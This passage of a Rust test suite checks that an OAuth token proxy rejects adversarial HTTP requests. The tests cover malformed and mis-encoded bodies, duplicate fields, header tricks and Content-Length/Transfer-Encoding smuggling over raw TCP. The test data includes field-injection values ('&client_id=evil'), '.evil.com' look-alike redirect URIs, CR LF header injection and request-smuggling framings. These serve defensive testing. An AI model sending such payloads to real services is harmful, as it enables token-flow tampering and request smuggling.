//! Adversarial requests (issue 5): attacks and mixtures, not the input rules one by one (those are
//! in `validation.rs` and `redirect_allowlist.rs`). Malformed bodies, encoding tricks, duplicates
//! in many spellings, header and framing tricks sent over raw TCP, request smuggling, path tricks,
//! slow and oversized requests, method overrides, injection payloads, and bad input arriving while
//! the provider hangs.
//!
//! Every case asserts the exact status and `error` code, that the provider was (or was not)
//! called, and that the service still answers `/healthz` afterwards. Where hyper refuses a message
//! it cannot frame, it answers with its own bodyless error before the application ever sees the
//! request: that is acceptable (no field was read, nothing reached the provider), and the case
//! says so. Behaviour that breaks the contract is written as it should be and `#[ignore]`d with
//! the reason prefixed `BUG:`.

use crate::helpers::*;
use reqwest::Method;
use serde_json::{json, Value};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use wiremock::ResponseTemplate;

const TOKEN: &str = "/api/v1/kick/token";
const REFRESH: &str = "/api/v1/kick/refresh";
const REVOKE: &str = "/api/v1/kick/revoke";
const JSON: &str = "application/json";
const FORM: &str = "application/x-www-form-urlencoded";
/// Every field the proxy may send the provider's token endpoint; anything else is a leak of
/// caller input.
const FORWARDED: [&str; 7] = [
    "grant_type",
    "code",
    "client_id",
    "client_secret",
    "redirect_uri",
    "code_verifier",
    "refresh_token",
];

// ---------------------------------------------------------------------------------------------
// Table machinery.

/// What a request must produce.
#[derive(Debug, Clone)]
enum Expect {
    /// An error with this status and `error` code, and no provider call.
    Refused(u16, &'static str),
    /// Kick's tokens after exactly one provider call, whose form holds these pairs (and only
    /// fields from [`FORWARDED`]).
    Served(Vec<(&'static str, String)>),
}

/// One row of a table: a request through reqwest.
struct Case {
    name: String,
    path: &'static str,
    content_type: &'static str,
    body: Vec<u8>,
    expect: Expect,
}

fn case(
    name: impl Into<String>,
    path: &'static str,
    content_type: &'static str,
    body: impl Into<Vec<u8>>,
    expect: Expect,
) -> Case {
    Case {
        name: name.into(),
        path,
        content_type,
        body: body.into(),
        expect,
    }
}

fn refused() -> Expect {
    Expect::Refused(400, "invalid_request")
}

/// Served, and the provider received `code`.
fn served_with_code(code: &str) -> Expect {
    Expect::Served(vec![("code", code.to_owned())])
}

/// A code no other case uses: a replayed exchange would be answered without a provider call.
fn code(n: u32) -> String {
    format!("{CODE}{n:04}")
}

fn enc(value: &str) -> String {
    url::form_urlencoded::byte_serialize(value.as_bytes()).collect()
}

/// `code_verifier=…&redirect_uri=…` for a form.
fn form_rest() -> String {
    format!(
        "code_verifier={VERIFIER}&redirect_uri={}",
        enc(REDIRECT_URI)
    )
}

/// A valid `/token` form with `code`.
fn form_exchange(code: &str) -> String {
    format!("code={}&{}", enc(code), form_rest())
}

/// A valid `/token` JSON body with `code`, and `extra` (raw JSON members, with a trailing comma)
/// first.
fn json_exchange_with(extra: &str, code: &str) -> String {
    format!(
        r#"{{{extra}"code":"{code}","code_verifier":"{VERIFIER}","redirect_uri":"{REDIRECT_URI}"}}"#
    )
}

fn json_exchange(code: &str) -> String {
    json_exchange_with("", code)
}

/// `"code_verifier":"…","redirect_uri":"…"` for hand-built JSON.
fn json_rest() -> String {
    format!(r#""code_verifier":"{VERIFIER}","redirect_uri":"{REDIRECT_URI}""#)
}

/// Bytes: `parts` concatenated (for bodies that are not UTF-8).
fn bytes(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

/// Requests the provider has received so far.
async fn provider_calls(app: &TestApp) -> usize {
    app.upstream
        .received_requests()
        .await
        .unwrap_or_default()
        .len()
}

/// A provider that answers Kick's success `times` times.
async fn upstream_succeeds_times(app: &TestApp, times: u64) {
    app.upstream_answers(
        ResponseTemplate::new(200).set_body_json(kick_tokens()),
        times,
    )
    .await;
}

/// Asserts `response` against `expect`, given the provider calls made before it was sent.
async fn check(
    app: &TestApp,
    name: &str,
    response: reqwest::Response,
    expect: &Expect,
    calls_before: usize,
) {
    match expect {
        Expect::Refused(status, code) => {
            assert_eq!(response.status().as_u16(), *status, "{name}: status");
            assert_error(response, *status, code).await;
            assert_eq!(
                provider_calls(app).await,
                calls_before,
                "{name}: the provider was called"
            );
        }
        Expect::Served(sent) => {
            assert_eq!(response.status(), 200, "{name}: status");
            assert_token_headers(response.headers());
            let body: Value = response.json().await.expect("token response is JSON");
            assert_eq!(body, kick_tokens(), "{name}");
            let requests = app.upstream.received_requests().await.unwrap_or_default();
            assert_eq!(requests.len(), calls_before + 1, "{name}: provider calls");
            let form = form_of(requests.last().expect("one call"));
            for (name_sent, value) in sent {
                assert_eq!(
                    form.get(*name_sent),
                    Some(value),
                    "{name}: `{name_sent}` sent to the provider"
                );
            }
            for key in form.keys() {
                assert!(
                    FORWARDED.contains(&key.as_str()),
                    "{name}: `{key}` was forwarded"
                );
            }
        }
    }
}

/// Runs every case on one app, whose provider is set up for exactly the served ones; checks
/// health after each case.
async fn run_table(cases: Vec<Case>) {
    let app = spawn_app().await;
    let served = cases
        .iter()
        .filter(|c| matches!(c.expect, Expect::Served(_)))
        .count();
    upstream_succeeds_times(&app, served as u64).await;
    for case in cases {
        let before = provider_calls(&app).await;
        let response = app.post_raw(case.path, case.content_type, case.body).await;
        check(&app, &case.name, response, &case.expect, before).await;
        assert!(
            app.is_healthy().await,
            "{}: the service stopped answering",
            case.name
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Raw TCP: exact bytes on the wire, for framing, header and path tricks.

/// One response read off a raw connection.
#[derive(Debug)]
struct RawResponse {
    status_line: String,
    status: u16,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl RawResponse {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

/// Everything the server sent on one connection.
#[derive(Debug)]
struct RawOutcome {
    responses: Vec<RawResponse>,
    /// Bytes after the last complete response.
    rest: Vec<u8>,
    /// The server closed the connection (false: still open when reading stopped).
    closed: bool,
    /// From the end of writing to the close (or to the end of reading).
    elapsed: Duration,
}

/// Splits `buf` into complete responses (bodies framed by `Content-Length`, absent = empty).
fn parse_responses(mut buf: &[u8]) -> (Vec<RawResponse>, Vec<u8>) {
    let mut responses = Vec::new();
    while let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
        let head = String::from_utf8_lossy(&buf[..end]).into_owned();
        let mut lines = head.split("\r\n");
        let status_line = lines.next().unwrap_or_default().to_owned();
        let status = status_line
            .split(' ')
            .nth(1)
            .and_then(|s| s.parse().ok())
            .unwrap_or(0);
        let headers: Vec<(String, String)> = lines
            .filter_map(|l| l.split_once(':'))
            .map(|(k, v)| (k.trim().to_owned(), v.trim().to_owned()))
            .collect();
        let length: usize = headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case("content-length"))
            .and_then(|(_, v)| v.parse().ok())
            .unwrap_or(0);
        let Some(body) = buf.get(end + 4..end + 4 + length) else {
            break;
        };
        responses.push(RawResponse {
            status_line,
            status,
            headers,
            body: body.to_vec(),
        });
        buf = &buf[end + 4 + length..];
    }
    (responses, buf.to_vec())
}

/// Writes `request` on a new connection (reading at the same time, so an early answer is not lost
/// to a reset), then reads until the server closes the connection or `wait` has passed.
async fn raw_exchange(app: &TestApp, request: &[u8], wait: Duration) -> RawOutcome {
    let stream = TcpStream::connect(app.addr).await.expect("connect");
    let (mut reader, mut writer) = stream.into_split();
    let request = request.to_vec();
    let written = tokio::spawn(async move {
        // The server may answer and close before reading everything: a failed write is expected.
        let _ = writer.write_all(&request).await;
        writer
    });
    let mut buf = Vec::new();
    let started = Instant::now();
    let closed = loop {
        let mut chunk = [0u8; 8192];
        let left = wait.saturating_sub(started.elapsed());
        match tokio::time::timeout(left, reader.read(&mut chunk)).await {
            Err(_) => break false,
            Ok(Ok(0) | Err(_)) => break true,
            Ok(Ok(n)) => buf.extend_from_slice(&chunk[..n]),
        }
    };
    let elapsed = started.elapsed();
    drop(written.await);
    let (responses, rest) = parse_responses(&buf);
    RawOutcome {
        responses,
        rest,
        closed,
        elapsed,
    }
}

/// `POST {path} HTTP/1.1` with a Host, `headers` (each line ending in CRLF) and `body`.
fn raw_post(path: &str, headers: &str, body: &str) -> Vec<u8> {
    format!("POST {path} HTTP/1.1\r\nHost: proxy.test\r\n{headers}\r\n{body}").into_bytes()
}

/// A JSON `/token`-style request to `path` with a correct `Content-Length`.
fn raw_json(path: &str, body: &str) -> Vec<u8> {
    raw_post(
        path,
        &format!(
            "Content-Type: application/json\r\nContent-Length: {}\r\n",
            body.len()
        ),
        body,
    )
}

/// What one response on a raw connection must be.
#[derive(Debug, Clone, Copy)]
enum Answer {
    /// The application's JSON error.
    Error(u16, &'static str),
    /// The application's token response (one provider call).
    Tokens,
    /// hyper's own bodyless error: the message could not be framed, so the application never saw
    /// it, no field was read and nothing reached the provider.
    Protocol(u16),
}

/// One raw-TCP row: exact bytes, and every response the connection must carry, in order; no
/// other response may follow (a smuggled request must never be answered).
struct RawCase {
    name: &'static str,
    request: Vec<u8>,
    answers: Vec<Answer>,
    /// The server closes the connection right after the last answer, instead of keeping it for
    /// another request until the 1 s idle deadline: it will not read what follows.
    closes: bool,
}

fn raw_case(name: &'static str, request: Vec<u8>, answers: Vec<Answer>, closes: bool) -> RawCase {
    RawCase {
        name,
        request,
        answers,
        closes,
    }
}

fn assert_answer(name: &str, response: &RawResponse, answer: Answer) {
    match answer {
        Answer::Error(status, code) => {
            assert_eq!(response.status, status, "{name}: {}", response.status_line);
            assert_eq!(response.header("content-type"), Some("application/json"));
            assert_eq!(response.header("cache-control"), Some("no-store"));
            assert_eq!(response.header("pragma"), Some("no-cache"));
            let body: Value = serde_json::from_slice(&response.body).expect("JSON error body");
            assert_eq!(body["error"], code, "{name}: {body}");
            assert!(
                body["error_description"]
                    .as_str()
                    .is_some_and(|d| !d.is_empty()),
                "{name}: {body}"
            );
        }
        Answer::Tokens => {
            assert_eq!(response.status, 200, "{name}: {}", response.status_line);
            assert_eq!(response.header("content-type"), Some("application/json"));
            assert_eq!(response.header("cache-control"), Some("no-store"));
            assert_eq!(response.header("pragma"), Some("no-cache"));
            let body: Value = serde_json::from_slice(&response.body).expect("JSON tokens");
            assert_eq!(body, kick_tokens(), "{name}");
        }
        Answer::Protocol(status) => {
            assert_eq!(response.status, status, "{name}: {}", response.status_line);
            assert!(
                response.body.is_empty(),
                "{name}: hyper's errors are bodyless"
            );
            assert_eq!(response.header("connection"), Some("close"), "{name}");
        }
    }
}

/// Runs raw cases on one app whose provider answers exactly the `Tokens` answers.
async fn run_raw_table(cases: Vec<RawCase>) {
    let app = spawn_app().await;
    let served = cases
        .iter()
        .flat_map(|c| &c.answers)
        .filter(|a| matches!(a, Answer::Tokens))
        .count();
    upstream_succeeds_times(&app, served as u64).await;
    for case in cases {
        let before = provider_calls(&app).await;
        // Idle keep-alive connections are closed at the 1 s header deadline of the test config.
        let outcome = raw_exchange(&app, &case.request, Duration::from_secs(4)).await;
        let name = case.name;
        assert!(outcome.closed, "{name}: the connection was never closed");
        assert_eq!(
            outcome.responses.len(),
            case.answers.len(),
            "{name}: responses {:#?}, then {:?}",
            outcome.responses,
            String::from_utf8_lossy(&outcome.rest)
        );
        assert!(outcome.rest.is_empty(), "{name}: trailing bytes");
        for (response, answer) in outcome.responses.iter().zip(&case.answers) {
            assert_answer(name, response, *answer);
        }
        if case.closes {
            assert!(
                outcome.elapsed < Duration::from_millis(900),
                "{name}: closed only after {:?}",
                outcome.elapsed
            );
        }
        let tokens = case
            .answers
            .iter()
            .filter(|a| matches!(a, Answer::Tokens))
            .count();
        assert_eq!(
            provider_calls(&app).await,
            before + tokens,
            "{name}: provider calls"
        );
        assert!(
            app.is_healthy().await,
            "{name}: the service stopped answering"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Malformed bodies.

#[tokio::test]
async fn malformed_json_bodies_are_400_and_odd_but_valid_json_is_served() {
    let c = CODE;
    let rest = json_rest();
    let valid = json_exchange(&code(1));
    run_table(vec![
        case(
            "truncated inside a key",
            TOKEN,
            JSON,
            &valid.as_bytes()[..20],
            refused(),
        ),
        case(
            "truncated inside a \\u escape",
            TOKEN,
            JSON,
            r#"{"code":"AB\u00"#,
            refused(),
        ),
        // RFC 8259 §8.1: a sender must not add a BOM; a parser may refuse one.
        case(
            "UTF-8 byte-order mark before the object",
            TOKEN,
            JSON,
            bytes(&[b"\xef\xbb\xbf", valid.as_bytes()]),
            refused(),
        ),
        case(
            "UTF-16 byte-order mark and UTF-16 text",
            TOKEN,
            JSON,
            bytes(&[
                b"\xff\xfe",
                &valid.bytes().flat_map(|b| [b, 0]).collect::<Vec<u8>>(),
            ]),
            refused(),
        ),
        case(
            "line comment",
            TOKEN,
            JSON,
            format!("// a comment\n{valid}"),
            refused(),
        ),
        case(
            "block comment inside the object",
            TOKEN,
            JSON,
            json_exchange_with("/* x */", &code(2)),
            refused(),
        ),
        // RFC 8259 §9 lets a parser limit the range of numbers: 1e400 overflows f64 and is
        // refused as bad JSON, before any field is looked at.
        case(
            "1e400 in an unknown field",
            TOKEN,
            JSON,
            json_exchange_with(r#""x":1e400,"#, &code(3)),
            refused(),
        ),
        case(
            "40-digit integer in an unknown field",
            TOKEN,
            JSON,
            json_exchange_with(
                r#""x":1234567890123456789012345678901234567890,"#,
                &code(4),
            ),
            served_with_code(&code(4)),
        ),
        case(
            "-0 and 1E+2 in unknown fields",
            TOKEN,
            JSON,
            json_exchange_with(r#""x":-0,"y":1E+2,"#, &code(5)),
            served_with_code(&code(5)),
        ),
        case(
            "40-digit integer as the code",
            TOKEN,
            JSON,
            format!(r#"{{"code":1234567890123456789012345678901234567890,{rest}}}"#),
            refused(),
        ),
        case(
            "the required fields only inside an unknown object",
            TOKEN,
            JSON,
            format!(r#"{{"x":{{"code":"{c}",{rest}}}}}"#),
            refused(),
        ),
        case(
            "a nested `code` is not a duplicate",
            TOKEN,
            JSON,
            json_exchange_with(r#""x":{"code":"other","y":[{"code":"another"}]},"#, &code(6)),
            served_with_code(&code(6)),
        ),
        case(
            "1,500 alternating `[{\"a\":` levels, balanced, in an unknown field",
            TOKEN,
            JSON,
            json_exchange_with(
                &format!(
                    r#""deep":{}1{},"#,
                    r#"[{"a":"#.repeat(1_500),
                    "}]".repeat(1_500)
                ),
                &code(7),
            ),
            served_with_code(&code(7)),
        ),
        case(
            "3,000 unclosed objects in an unknown field",
            TOKEN,
            JSON,
            format!(r#"{{{rest},"code":"{c}","deep":{}"#, r#"{"a":"#.repeat(3_000)),
            refused(),
        ),
        case(
            "raw NUL byte between members",
            TOKEN,
            JSON,
            format!("{{\"code\":\"{c}\",\0{rest}}}"),
            refused(),
        ),
        case(
            "raw NUL byte inside the code string",
            TOKEN,
            JSON,
            format!("{{\"code\":\"AB\0CD\",{rest}}}"),
            refused(),
        ),
        case(
            "escaped NUL in an unknown field is valid JSON",
            TOKEN,
            JSON,
            json_exchange_with(r#""x":"\u0000","#, &code(8)),
            served_with_code(&code(8)),
        ),
        case(
            "invalid UTF-8 in an unknown top-level string",
            TOKEN,
            JSON,
            bytes(&[br#"{"x":"A"#, b"\xff", br#"","#, &valid.as_bytes()[1..]]),
            refused(),
        ),
        case(
            "invalid UTF-8 in the redirect_uri",
            TOKEN,
            JSON,
            bytes(&[
                format!(r#"{{"code":"{c}","code_verifier":"{VERIFIER}","redirect_uri":"battles-record://oauth"#).as_bytes(),
                b"\xfe",
                br#"callback"}"#,
            ]),
            refused(),
        ),
        case(
            "overlong UTF-8 `/` (C0 AF) in the redirect_uri",
            TOKEN,
            JSON,
            bytes(&[
                format!(r#"{{"code":"{c}","code_verifier":"{VERIFIER}","redirect_uri":"battles-record://oauth"#).as_bytes(),
                b"\xc0\xaf",
                br#"callback"}"#,
            ]),
            refused(),
        ),
        case(
            "overlong UTF-8 NUL (E0 80 80) in the verifier",
            TOKEN,
            JSON,
            bytes(&[
                format!(r#"{{"code":"{c}","redirect_uri":"{REDIRECT_URI}","code_verifier":"{}"#, &VERIFIER[..42]).as_bytes(),
                b"\xe0\x80\x80",
                br#""}"#,
            ]),
            refused(),
        ),
        case(
            "UTF-8-encoded surrogate (ED A0 80) in the code",
            TOKEN,
            JSON,
            bytes(&[br#"{"code":"AB"#, b"\xed\xa0\x80", format!(r#"",{rest}}}"#).as_bytes()]),
            refused(),
        ),
        case(
            "empty key in JSON is just an unknown field",
            TOKEN,
            JSON,
            json_exchange_with(r#""":"x","#, &code(9)),
            served_with_code(&code(9)),
        ),
        case(
            "JSON content type, form body",
            TOKEN,
            JSON,
            form_exchange(&code(10)),
            refused(),
        ),
        // The whole JSON text becomes one form key; no `code` field exists.
        case(
            "form content type, JSON body",
            TOKEN,
            FORM,
            json_exchange(&code(11)),
            refused(),
        ),
        case(
            "refresh: truncated after the value",
            REFRESH,
            JSON,
            format!(r#"{{"refresh_token":"{REFRESH_TOKEN}""#),
            refused(),
        ),
        case(
            "revoke: BOM before the object",
            REVOKE,
            JSON,
            bytes(&[b"\xef\xbb\xbf", br#"{"token":"abc"}"#]),
            refused(),
        ),
    ])
    .await;
}

/// serde_json skips ignored values without validating their UTF-8, so the same bytes are 400 at
/// the top level and accepted one level down.
#[tokio::test]
async fn invalid_utf8_anywhere_in_a_json_body_is_400() {
    let valid = json_exchange(&code(1));
    let tail = &valid.as_bytes()[1..];
    run_table(vec![
        case(
            "FF in a string inside an unknown array",
            TOKEN,
            JSON,
            bytes(&[br#"{"x":["A"#, b"\xff", br#""],"#, tail]),
            refused(),
        ),
        case(
            "overlong `/` in a string inside an unknown object",
            TOKEN,
            JSON,
            bytes(&[br#"{"x":{"y":"A"#, b"\xc0\xaf", br#""},"#, tail]),
            refused(),
        ),
    ])
    .await;
}

#[tokio::test]
async fn malformed_form_bodies_are_decoded_as_browsers_do_and_never_reach_the_provider_wrong() {
    let rest = form_rest();
    run_table(vec![
        // WHATWG URL-encoded parsing: invalid UTF-8 becomes U+FFFD, which no rule accepts.
        case(
            "raw invalid UTF-8 in the redirect_uri",
            TOKEN,
            FORM,
            bytes(&[
                format!("code={CODE}&code_verifier={VERIFIER}&redirect_uri=battles-record://oauth/").as_bytes(),
                b"\xff",
                b"callback",
            ]),
            refused(),
        ),
        case(
            "overlong `/` as %C0%AF in the redirect_uri",
            TOKEN,
            FORM,
            format!("code={CODE}&code_verifier={VERIFIER}&redirect_uri=battles-record:%C0%AF%C0%AFoauth%C0%AFcallback"),
            refused(),
        ),
        case(
            "overlong NUL as %C0%80 in the code",
            TOKEN,
            FORM,
            format!("code=AB%C0%80CD&{rest}"),
            refused(),
        ),
        case(
            "raw invalid UTF-8 in an unknown field is ignored",
            TOKEN,
            FORM,
            bytes(&[b"x=\xff\xfe&", form_exchange(&code(20)).as_bytes()]),
            served_with_code(&code(20)),
        ),
        case(
            "raw NUL byte in an unknown key is ignored",
            TOKEN,
            FORM,
            bytes(&[b"x\0y=1&", form_exchange(&code(21)).as_bytes()]),
            served_with_code(&code(21)),
        ),
        case(
            "raw NUL byte inside the code",
            TOKEN,
            FORM,
            bytes(&[b"code=AB\0CD&", rest.as_bytes()]),
            refused(),
        ),
        case(
            "raw CR LF inside the code",
            TOKEN,
            FORM,
            format!("code=AB\r\nX-Injected:1&{rest}"),
            refused(),
        ),
        case(
            "refresh: raw invalid UTF-8 in the token",
            REFRESH,
            FORM,
            bytes(&[b"refresh_token=AB", b"\xc3\x28", b"CD"]),
            refused(),
        ),
    ])
    .await;
}

// ---------------------------------------------------------------------------------------------
// Encodings.

#[tokio::test]
async fn form_encoding_tricks_decode_exactly_once_and_never_split_or_merge_fields() {
    let rest = form_rest();
    let redirect = enc(REDIRECT_URI);
    run_table(vec![
        // `;` is not a separator (WHATWG): everything after `code=` is the code's value.
        case(
            "`;` as the separator",
            TOKEN,
            FORM,
            format!("code={CODE};code_verifier={VERIFIER};redirect_uri={redirect}"),
            refused(),
        ),
        case(
            "%2B is a literal `+` in the code, forwarded as such",
            TOKEN,
            FORM,
            format!("code={}%2B&{rest}", code(30)),
            served_with_code(&format!("{}+", code(30))),
        ),
        case(
            "`+` is a space: a verifier with `+` is refused",
            TOKEN,
            FORM,
            format!(
                "code={CODE}&code_verifier={}+{}&redirect_uri={redirect}",
                &VERIFIER[..21],
                &VERIFIER[..21]
            ),
            refused(),
        ),
        case(
            "%20 at the end of the redirect_uri",
            TOKEN,
            FORM,
            format!("code={CODE}&code_verifier={VERIFIER}&redirect_uri={redirect}%20"),
            refused(),
        ),
        case(
            "double-encoded slashes (%252F) in the redirect_uri",
            TOKEN,
            FORM,
            format!("code={CODE}&code_verifier={VERIFIER}&redirect_uri=battles-record:%252F%252Foauth%252Fcallback"),
            refused(),
        ),
        case(
            "double-encoded code (%2541) is decoded once: `%41`",
            TOKEN,
            FORM,
            format!("code={}%2541&{rest}", code(31)),
            served_with_code(&format!("{}%41", code(31))),
        ),
        case(
            "an encoded `&` and `=` stay inside the code and cannot inject client_id",
            TOKEN,
            FORM,
            format!("code={}%26client_id%3Devil&{rest}", code(32)),
            Expect::Served(vec![
                ("code", format!("{}&client_id=evil", code(32))),
                ("client_id", CLIENT_ID.to_owned()),
            ]),
        ),
        case(
            "a bare `=` inside the value is part of the code",
            TOKEN,
            FORM,
            format!("code={}=x&{rest}", code(33)),
            served_with_code(&format!("{}=x", code(33))),
        ),
        case(
            "a broken escape (%2 and %zz) stays literal",
            TOKEN,
            FORM,
            format!("code={}%zz%2&{rest}", code(34)),
            served_with_code(&format!("{}%zz%2", code(34))),
        ),
        case(
            "percent-encoded key c%6Fde is `code`",
            TOKEN,
            FORM,
            format!("c%6Fde={}&{rest}", code(35)),
            served_with_code(&code(35)),
        ),
        case(
            "every key fully percent-encoded",
            TOKEN,
            FORM,
            format!(
                "%63%6F%64%65={}&%63%6F%64%65%5F%76%65%72%69%66%69%65%72={VERIFIER}&%72%65%64%69%72%65%63%74%5F%75%72%69={redirect}",
                code(36)
            ),
            served_with_code(&code(36)),
        ),
        case(
            "`code+` (a trailing space in the key) is not `code`",
            TOKEN,
            FORM,
            format!("code+={CODE}&{rest}"),
            refused(),
        ),
        case(
            "unknown key without a value",
            TOKEN,
            FORM,
            format!("foo&{}", form_exchange(&code(37))),
            served_with_code(&code(37)),
        ),
        case(
            "empty keys (`=x`, `=`) are ignored",
            TOKEN,
            FORM,
            format!("=x&=&{}", form_exchange(&code(38))),
            served_with_code(&code(38)),
        ),
        case(
            "`&&&` before, between and after the fields",
            TOKEN,
            FORM,
            format!(
                "&&&code={}&&&code_verifier={VERIFIER}&&&redirect_uri={redirect}&&&",
                code(39)
            ),
            served_with_code(&code(39)),
        ),
        case(
            "only separators",
            TOKEN,
            FORM,
            "&&&=&&&",
            refused(),
        ),
        case(
            "JSON escapes spell the key `code`",
            TOKEN,
            JSON,
            format!(r#"{{"\u0063\u006f\u0064\u0065":"{}",{}}}"#, code(40), json_rest()),
            served_with_code(&code(40)),
        ),
    ])
    .await;
}

// ---------------------------------------------------------------------------------------------
// Duplicates in many spellings (RFC 6749 §3.2: "MUST NOT be included more than once").

#[tokio::test]
async fn duplicates_are_refused_in_every_spelling_and_case_variants_are_other_keys() {
    let rest = form_rest();
    let jrest = json_rest();
    let c = CODE;
    let (a, r) = (APP_REDIRECT_URI, REDIRECT_URI);
    run_table(vec![
        case(
            "form: code and c%6Fde",
            TOKEN,
            FORM,
            format!("code={c}&c%6Fde={c}&{rest}"),
            refused(),
        ),
        case(
            "form: code, then a bare `code`",
            TOKEN,
            FORM,
            format!("code={c}&{rest}&code"),
            refused(),
        ),
        case(
            "form: code, then %63ode=",
            TOKEN,
            FORM,
            format!("code={c}&{rest}&%63ode="),
            refused(),
        ),
        case(
            "form: CODE is another key and is ignored",
            TOKEN,
            FORM,
            format!("CODE=evil&{}", form_exchange(&code(50))),
            served_with_code(&code(50)),
        ),
        case(
            "form: only Code (capitalised)",
            TOKEN,
            FORM,
            format!("Code={c}&{rest}"),
            refused(),
        ),
        case(
            "form: code[] twice (PHP-style arrays are other keys)",
            TOKEN,
            FORM,
            format!("code[]={c}&code[]={c}&{rest}"),
            refused(),
        ),
        case(
            "form: redirect_uri allowed, then a second allowed one",
            TOKEN,
            FORM,
            format!("code={c}&code_verifier={VERIFIER}&redirect_uri={}&redirect_uri={}", enc(r), enc(a)),
            refused(),
        ),
        case(
            "JSON: code and c\\u006fde",
            TOKEN,
            JSON,
            format!(r#"{{"code":"{c}","c\u006fde":"{c}",{jrest}}}"#),
            refused(),
        ),
        case(
            "JSON: CODE is another key and is ignored",
            TOKEN,
            JSON,
            json_exchange_with(r#""CODE":"evil","#, &code(51)),
            served_with_code(&code(51)),
        ),
        case(
            "JSON: `code` and `code\\u0000` are different keys",
            TOKEN,
            JSON,
            json_exchange_with(r#""code\u0000":"evil","#, &code(52)),
            served_with_code(&code(52)),
        ),
        case(
            "JSON: allowed redirect_uri, then a look-alike",
            TOKEN,
            JSON,
            format!(r#"{{"code":"{c}","code_verifier":"{VERIFIER}","redirect_uri":"{r}","redirect_uri":"{r}.evil.com"}}"#),
            refused(),
        ),
        case(
            "JSON: a look-alike, then the allowed redirect_uri",
            TOKEN,
            JSON,
            format!(r#"{{"code":"{c}","code_verifier":"{VERIFIER}","redirect_uri":"{r}.evil.com","redirect_uri":"{r}"}}"#),
            refused(),
        ),
        case(
            "JSON: refresh_token and refresh\\u005ftoken",
            REFRESH,
            JSON,
            format!(r#"{{"refresh_token":"{REFRESH_TOKEN}","refresh\u005ftoken":"x"}}"#),
            refused(),
        ),
        case(
            "revoke form: token twice",
            REVOKE,
            FORM,
            "token=a&token=a",
            refused(),
        ),
        case(
            "revoke JSON: token_type_hint twice",
            REVOKE,
            JSON,
            r#"{"token":"a","token_type_hint":"access_token","token_type_hint":"refresh_token"}"#,
            refused(),
        ),
    ])
    .await;
}

// ---------------------------------------------------------------------------------------------
// Header tricks.

#[tokio::test]
async fn content_type_variants_are_judged_on_the_whole_value() {
    let cases: Vec<(&str, &'static str, Expect)> = vec![
        (
            "extra parameters and whitespace",
            "application/json ; charset = \"utf-8\" ; foo=bar",
            served_with_code(&code(60)),
        ),
        (
            "quoted charset, no space",
            "application/json;charset=\"utf-8\"",
            served_with_code(&code(61)),
        ),
        (
            "trailing `;` and a tab",
            "application/json;\t",
            served_with_code(&code(62)),
        ),
        (
            "a second charset that is not UTF-8",
            "application/json; charset=utf-8; charset=latin1",
            Expect::Refused(415, "invalid_request"),
        ),
        (
            "a list of two media types in one field",
            "application/json, text/plain",
            Expect::Refused(415, "invalid_request"),
        ),
        (
            "an empty charset",
            "application/json; charset=",
            Expect::Refused(415, "invalid_request"),
        ),
        (
            "JSON named only in a parameter",
            "text/plain; type=application/json",
            Expect::Refused(415, "invalid_request"),
        ),
    ];
    let table = cases
        .into_iter()
        .enumerate()
        .map(|(i, (name, content_type, expect))| {
            let body = json_exchange(&code(60 + i as u32));
            case(name, TOKEN, content_type, body, expect)
        })
        .collect();
    run_table(table).await;
}

#[tokio::test]
async fn two_content_type_fields_are_415_in_either_order() {
    let body = json_exchange(&code(70));
    let json_first = raw_post(
        TOKEN,
        &format!(
            "Content-Type: application/json\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n",
            body.len()
        ),
        &body,
    );
    let text_first = raw_post(
        TOKEN,
        &format!(
            "Content-Type: text/plain\r\nContent-Type: application/json\r\nContent-Length: {}\r\n",
            body.len()
        ),
        &body,
    );
    run_raw_table(vec![
        raw_case(
            "application/json, then text/plain",
            json_first,
            vec![Answer::Error(415, "invalid_request")],
            false,
        ),
        raw_case(
            "text/plain, then application/json",
            text_first,
            vec![Answer::Error(415, "invalid_request")],
            false,
        ),
    ])
    .await;
}

#[tokio::test]
async fn content_length_and_transfer_encoding_tricks_are_framed_safely() {
    let body = json_exchange(&code(80));
    let len = body.len();
    let ct = "Content-Type: application/json\r\n";
    run_raw_table(vec![
        // The body ends where Content-Length says; the application refuses that prefix as bad
        // JSON. The rest is read as the next request line, which hyper cannot parse: its own
        // bodyless 400 (never reached the application), and the connection is closed.
        raw_case(
            "Content-Length shorter than the body",
            raw_post(TOKEN, &format!("{ct}Content-Length: 10\r\n"), &body),
            vec![Answer::Error(400, "invalid_request"), Answer::Protocol(400)],
            true,
        ),
        // The application waits for the missing bytes until the body deadline (1 s here).
        raw_case(
            "Content-Length longer than the body",
            raw_post(
                TOKEN,
                &format!("{ct}Content-Length: {}\r\n", len + 5),
                &body,
            ),
            vec![Answer::Error(408, "invalid_request")],
            false,
        ),
        // RFC 9112 §6.1: Transfer-Encoding wins, and the server must close the connection after
        // responding (a front end may have framed it by Content-Length).
        raw_case(
            "Transfer-Encoding: chunked with a (wrong) Content-Length",
            raw_post(
                TOKEN,
                &format!("{ct}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n"),
                &format!("{len:x}\r\n{body}\r\n0\r\n\r\n"),
            ),
            vec![Answer::Tokens],
            true,
        ),
        // RFC 9112 §6.3: differing Content-Length values are unrecoverable framing errors.
        raw_case(
            "two different Content-Length fields",
            raw_post(
                TOKEN,
                &format!("{ct}Content-Length: {len}\r\nContent-Length: 4\r\n"),
                &body,
            ),
            vec![Answer::Protocol(400)],
            true,
        ),
        // ... while identical repeats may be accepted as one (same section).
        raw_case(
            "two identical Content-Length fields",
            raw_post(
                TOKEN,
                &format!("{ct}Content-Length: {len}\r\nContent-Length: {len}\r\n"),
                &json_exchange(&code(81)),
            ),
            vec![Answer::Tokens],
            false,
        ),
        raw_case(
            "Content-Length as a list `n, n`",
            raw_post(
                TOKEN,
                &format!("{ct}Content-Length: {len}, {len}\r\n"),
                &body,
            ),
            vec![Answer::Protocol(400)],
            true,
        ),
        raw_case(
            "Content-Length with a sign",
